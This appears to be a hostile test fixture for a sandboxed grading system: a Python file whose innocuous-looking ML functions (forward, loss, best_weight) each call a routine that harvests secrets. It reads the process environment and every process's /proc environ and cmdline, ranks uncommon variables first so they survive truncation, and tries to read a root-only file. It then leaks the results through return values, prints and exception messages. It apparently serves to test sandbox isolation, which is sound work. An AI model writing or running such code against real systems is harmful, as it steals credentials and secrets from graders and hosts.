"""Read everything secret a worker might reach (its environment, the zygote's and the grader's
environment through /proc, a root-only file outside its folder) and send it back through every
channel: the returned value, prints, and an exception message."""
import os


def _loot():
    """What a thief keeps: the rare variables first (an output cut after a few hundred
    characters must still carry them), then the files."""
    entries = {f"{k}={v}" for k, v in os.environ.items()}
    for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    entries |= {e.decode(errors="replace") for e in f.read().split(b"\0") if e}
            except OSError:
                pass
    common = ("PATH=", "LANG=", "LC_", "HOME=", "TMPDIR=", "OMP_", "MKL_", "PYTHON", "PWD=",
              "SHLVL=", "_=", "TERM", "HOSTNAME=", "LS_COLORS=", "USER=", "SHELL=", "LOGNAME=")
    rare = sorted(e for e in entries if "=" in e and not e.startswith(common))
    found = [" ".join(rare)]
    try:
        with open("__OUTSIDE__/root_only.txt") as f:
            found.insert(0, f.read())
    except OSError:
        pass
    return "\n".join(found)


def forward(x, w):
    text = _loot()
    print(text)
    return x * w


def loss(x, y, w):
    raise ValueError(_loot())


def best_weight(x_data, y_data, weights):
    return _loot()
